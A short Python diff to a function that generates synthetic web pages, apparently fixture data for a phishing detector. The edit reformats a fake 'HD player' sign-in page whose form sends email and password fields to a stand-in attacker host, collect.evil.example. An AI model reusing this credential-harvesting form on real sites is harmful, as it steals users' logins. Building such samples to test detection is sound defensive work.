@@ -111,7 +111,8 @@ def generated_pages(count: int = 300, seed: int = 11) -> list[tuple[str, str]]:
         else:
             body = (
                 f"<h1>{title} HD player</h1><p>Sign in to continue watching</p>"
-                f'<form action="https://collect.evil.example/gate.php"><input type="email" name="email">'
+                '<form action="https://collect.evil.example/gate.php">'
+                '<input type="email" name="email">'
                 f'<input type="password" name="pass"></form><p>{filler}</p>'
             )
         out.append(
